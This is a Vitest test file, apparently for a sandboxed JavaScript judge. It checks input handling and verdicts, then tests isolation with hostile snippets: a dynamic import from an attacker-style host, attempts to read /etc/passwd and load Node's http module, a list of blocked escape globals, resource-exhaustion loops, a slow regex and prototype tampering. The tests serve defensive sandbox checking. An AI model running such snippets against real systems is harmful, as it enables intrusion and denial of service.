import { describe, expect, it } from 'vitest';
import { programsOf } from './programs.ts';

const { stdio, calls, run, outcomes } = programsOf({
	language: 'javascript',
	timeLimitMs: 1_000,
	memoryLimitMb: 64
});

const SUM = 'split(/\\s+/).filter(Boolean).map(Number).reduce((a, b) => a + b)';
const sums = stdio(['1 2\n', '3'], ['10\n-4\n', '6']);

describe('JavaScript that reads and writes', () => {
	it.each([
		['fs', `console.log(require('fs').readFileSync(0, 'utf8').${SUM})`],
		['/dev/stdin', `console.log(require('fs').readFileSync('/dev/stdin').toString().${SUM})`],
		[
			'an import',
			`import fs from 'node:fs';\nimport { createInterface as make } from 'readline';\nconsole.log(fs.readFileSync(0, 'utf8').${SUM})`
		],
		[
			'events',
			`let all = '';\nprocess.stdin.on('data', (part) => (all += part)).on('end', () => console.log(all.${SUM}))`
		],
		[
			'lines',
			`const rl = require('readline').createInterface({ input: process.stdin });\nlet sum = 0;\nrl.on('line', (line) => line.split(' ').forEach((word) => (sum += Number(word))));\nrl.on('close', () => process.stdout.write(String(sum)))`
		],
		[
			'a loop over lines',
			`(async () => { let all = ''; for await (const line of require('readline').createInterface({})) all += line + ' '; console.log(all.${SUM}); })()`
		],
		[
			'a promise and a timer',
			`setTimeout(async () => { await null; console.log(require('fs').readFileSync(0, 'utf8').${SUM}) }, 100)`
		],
		['an exit', `console.log(require('fs').readFileSync(0, 'utf8').${SUM}); process.exit(0)`]
	])('passes by way of %s', async (_, code) => {
		expect(await outcomes(code, sums)).toEqual(['passed', 'passed']);
	});

	it('says what was wrong', async () => {
		expect(await run('console.log(3)', sums)).toEqual([
			{ outcome: 'passed', detail: '' },
			{ outcome: 'wrong', detail: '3\n' }
		]);
		const [thrown] = await run('const x = 1;\nx.y.z', sums);
		expect(thrown!.outcome).toBe('error');
		expect(thrown!.detail).toMatch(/answer\.js:2/);
		expect((await run('let = ', sums))[0]!.detail).toMatch(/SyntaxError/);
	});

	it.each([
		['an endless loop', 'for (;;);', 'timeout'],
		['an endless loop that catches', 'for (;;) { try { for (;;); } catch {} }', 'timeout'],
		['an endless promise', '(async () => { for (;;) await null; })()', 'timeout'],
		['an endless timer', 'const f = () => setTimeout(f); f()', 'timeout'],
		['memory', 'const x = []; for (;;) x.push(new Uint8Array(1e6))', 'memory'],
		['memory in small parts', 'const x = []; for (;;) x.push([1, 2])', 'memory'],
		[
			'memory that is text',
			"let x = 'abc'; for (;;) x = (x + x + '1').split('').reverse().join('')",
			'memory'
		],
		['recursion', 'const f = () => f() + 1; f()', 'error'],
		['output', "for (;;) console.log('x'.repeat(1e5))", 'error'],
		['a slow pattern', "/^(a+)+$/.test('a'.repeat(40) + 'b')", 'timeout']
	])('is not harmed by %s', async (_, code, outcome) => {
		expect((await outcomes(code, sums))[0]).toBe(outcome);
		expect((await outcomes('console.log(3)', sums))[0]).toBe('passed');
	});
});

describe('JavaScript that is called', () => {
	const tests = calls('f', ['[[1, 2]]', '[2, 1]'], ['[[]]', '[]']);

	it.each([
		['a function', 'function f(xs) { return [...xs].reverse(); }'],
		['a constant', 'const f = (xs) => [...xs].reverse();'],
		['an export', 'export function f(xs) { return [...xs].reverse(); }'],
		['module.exports', 'module.exports = { f: (xs) => [...xs].reverse() };']
	])('passes as %s', async (_, code) => {
		expect(await outcomes(code, tests)).toEqual(['passed', 'passed']);
	});

	it('compares results outside', async () => {
		expect(await outcomes('const f = (xs) => xs', tests)).toEqual(['wrong', 'passed']);
		expect(await outcomes('const g = 1', tests)).toEqual(['error', 'error']);
		expect(await outcomes('const f = () => undefined', tests)).toEqual(['error', 'error']);
		expect(await outcomes('JSON.stringify = () => "[]"; const f = () => 1', tests)).toEqual([
			'wrong',
			'passed'
		]);
	});

	it('calls methods', async () => {
		const code = 'class Solution { add(a, b) { return a + b; } }';
		expect(await outcomes(code, calls('Solution.add', ['[1, 2]', '3']))).toEqual(['passed']);
	});
});

describe('JavaScript that wants out', () => {
	it.each([
		'fetch',
		'XMLHttpRequest',
		'WebSocket',
		'importScripts',
		'navigator',
		'indexedDB',
		'caches',
		'postMessage',
		'self',
		'window',
		'document',
		'WebAssembly',
		'Worker'
	])('has no %s', async (name) => {
		const code = `const all = Function('return this')();
				console.log(typeof ${name}, typeof all['${name}'], typeof (0, eval)('typeof ${name} === "undefined" ? undefined : ${name}'))`;
		expect(await outcomes(code, stdio(['', 'undefined undefined undefined']))).toEqual(['passed']);
	});

	it.each([
		[
			'an import',
			"import('https://evil.example/x.js').then(() => console.log('in'), () => console.log('refused'))"
		],
		[
			'a module of Node',
			"try { require('http'); console.log('in') } catch { console.log('refused') }"
		],
		[
			'a file',
			"try { require('fs').readFileSync('/etc/passwd'); console.log('in') } catch { console.log('refused') }"
		]
	])('gets nothing by %s', async (_, code) => {
		expect(await outcomes(code, stdio(['', 'refused']))).toEqual(['passed']);
	});

	it('leaves the next answer as it would be without it', async () => {
		const tests = calls('f', ['[3]', '3']);
		await outcomes(
			'Array.prototype.map = () => [3]; Object.prototype.x = 1; const f = () => 3',
			tests
		);
		expect(await outcomes('const f = (n) => [n].map((x) => x + 1)[0]', tests)).toEqual(['wrong']);
	});
});
